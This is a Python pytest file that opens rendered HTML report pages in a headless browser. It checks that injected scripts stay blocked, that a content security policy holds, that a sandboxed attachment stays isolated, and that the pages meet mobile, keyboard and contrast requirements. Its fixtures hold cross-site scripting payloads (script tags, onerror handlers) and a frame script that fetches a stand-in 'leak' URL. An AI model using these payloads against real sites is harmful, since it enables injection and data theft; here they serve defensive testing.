"""In a real browser: nothing foreign runs or loads, a phone shows it all, the keyboard reaches it."""

import json
import shutil

import pandas as pd
import pytest
from nbformat import v4

from lib import report
from lib.config import Config
from lib.report import pages
from lib.report.record import Record
from lib.report.show import ATTACHMENT_TYPE
from lib.report.tables import Table

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="needs chromium (apt-get install chromium)"),
]
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
ATTACK = '<script>document.title="pwned"</script><img src=x onerror="document.title=\'pwned\'">'
FRAME = """<h1>Profile</h1><script>
document.body.append("script ran");
try { parent.document.title = "pwned" } catch (e) { document.body.append(" parent out of reach") }
fetch("https://example.org/leak").catch(() => document.body.append(" no network"));
</script>"""


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    """Return a folder of pages whose every part is hostile, wide or long."""
    root = tmp_path_factory.mktemp("study")
    folder = root / "02_data_quality"
    record = report.start_record(
        analysis=folder.name,
        title="02 · Data quality",
        dataset="toy",
        config=Config(root=root),
        folder=folder,
    )
    report.enter_section("Is anything wrong?")
    report.finding("The worst column is {v} of {n}.", v=ATTACK, n=12_000)
    report.warning("This column has a long name: {name}.", name="x" * 300)
    report.attach("profile.html", FRAME, title="Profile " + ATTACK)
    frame = pd.DataFrame({ATTACK: [ATTACK] * 3} | {f"column_{i}": [i * 1e6] * 3 for i in range(20)})
    outputs = [
        v4.new_output(
            "display_data", data={"text/html": Table.of(frame, title="T" * 200).to_html()}
        ),
        v4.new_output("display_data", data={"text/html": frame.to_html(escape=False)}),
        v4.new_output("display_data", data={"image/png": PIXEL}),
        v4.new_output(
            "display_data",
            data={ATTACHMENT_TYPE: json.dumps({"file": "profile.html", "title": "Profile"})},
        ),
        v4.new_output("stream", text="wide " * 200),
        v4.new_output("error", ename="ValueError", evalue="y" * 400, traceback=["z" * 400]),
    ]
    prose = [
        v4.new_markdown_cell(
            f"## Section {i} {'w' * 60}\n\n{ATTACK} ![x](https://example.org/x.png)"
        )
        for i in range(8)
    ]
    code = v4.new_code_cell(
        "x = 1  # " + "long " * 60, metadata={"title": "A long title " * 10}, outputs=outputs
    )
    record.finish({"git_commit": "a" * 40})
    pages.render_page(
        v4.new_notebook(cells=[*prose, code]), title="02 " + "q" * 120, record=record, folder=folder
    )
    (folder / "record.json").write_text(json.dumps({"traceback": "e" * 500}))
    rows = [{"name": folder.name, "title": "02 " + "q" * 120, "state": "failed", "note": "n" * 300}]
    pages.render_index(root, rows, summary="s" * 200)
    Record.current = None
    return root


@pytest.fixture(scope="module")
def browser():
    """Start one browser for all tests of this file."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        started = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield started
        started.close()


@pytest.fixture(params=["index.html", "02_data_quality/page.html"])
def opened(request, browser, study):
    """Return a page, as a phone shows it, with what it asked for and complained about."""
    context = browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True)
    page = context.new_page()
    page.requested, page.complaints = [], []
    page.on("request", lambda r: page.requested.append(r.url))
    page.on("console", lambda m: page.complaints.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: page.complaints.append(str(e)))
    page.goto((study / request.param).as_uri())
    page.wait_for_timeout(300)
    yield page
    context.close()


def test_a_phone_needs_no_sideways_scrolling(opened):
    """Long names, wide tables and code stay inside 390 pixels."""
    assert opened.evaluate("document.documentElement.scrollWidth") <= 390
    inside = "[...document.querySelectorAll('main *')].filter(e => !e.closest('.scroll, pre') && e.getBoundingClientRect().right > 391).map(e => e.outerHTML.slice(0, 80))"
    assert opened.evaluate(inside) == []


def test_nothing_foreign_runs_or_loads(opened):
    """No injected script ran, the page complained about nothing and asked for its own files only."""
    assert opened.title() != "pwned"
    foreign = [url for url in opened.requested if not url.startswith(("file://", "data:"))]
    assert [url for url in foreign if "leak" not in url] == []
    assert [c for c in opened.complaints if "example.org/leak" not in c] == []


def test_the_policy_holds_even_for_markup_that_slipped_in(opened):
    """Were a script or a foreign image inserted after all, the browser would refuse it."""
    opened.set_content(
        opened.content().replace(
            "</main>", ATTACK + '<img id="i" src="https://example.org/x.png"></main>'
        )
    )
    opened.wait_for_timeout(300)
    assert opened.title() != "pwned"
    assert any("Content Security Policy" in c for c in opened.complaints)
    assert opened.evaluate("document.getElementById('i').naturalWidth") == 0


def test_attachment_runs_in_its_frame_and_reaches_nothing(browser, study):
    """An attachment's script runs; page, files and network are out of its reach."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    answered = []
    page.on("response", lambda r: answered.append(r.url))
    page.goto((study / "02_data_quality" / "page.html").as_uri())
    page.locator("iframe").scroll_into_view_if_needed()
    frame = page.frame_locator("iframe").locator("body")
    frame.get_by_text("no network").wait_for(timeout=10_000)
    assert "script ran parent out of reach no network" in frame.inner_text().replace("\n", " ")
    assert page.title() != "pwned"
    assert not [url for url in answered if url.startswith("http")]
    context.close()


def test_the_keyboard_opens_code(browser, study):
    """Tab reaches a folded cell, Enter opens it; the first stop skips to the content."""
    context = browser.new_context()
    page = context.new_page()
    page.goto((study / "02_data_quality" / "page.html").as_uri())
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.matches('details.code > summary')"):
            break
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.parentElement.open") is True
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_words_stand_out_from_their_background(browser, study, scheme):
    """Text of every kind has the contrast that WCAG 2 asks for (4.5 to 1), light and dark."""
    context = browser.new_context(color_scheme=scheme)
    page = context.new_page()
    page.goto((study / "02_data_quality" / "page.html").as_uri())
    weak = page.evaluate("""() => {
      const rgb = c => c.match(/[\\d.]+/g).map(Number);
      const light = c => c.slice(0, 3).map(v => v / 255).map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
        .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
      const behind = e => { for (; e; e = e.parentElement) {
        const c = rgb(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return c; } return [255, 255, 255]; };
      return [...document.querySelectorAll('p, li, a, td, th, summary, .badge, pre, code span, h1, h2, dt, dd')].map(e => {
        const [a, b] = [light(rgb(getComputedStyle(e).color)), light(behind(e))].sort((x, y) => y - x);
        return [(a + .05) / (b + .05), e.outerHTML.slice(0, 60)]; }).filter(([ratio]) => ratio < 4.5);
    }""")
    assert weak == []
    context.close()
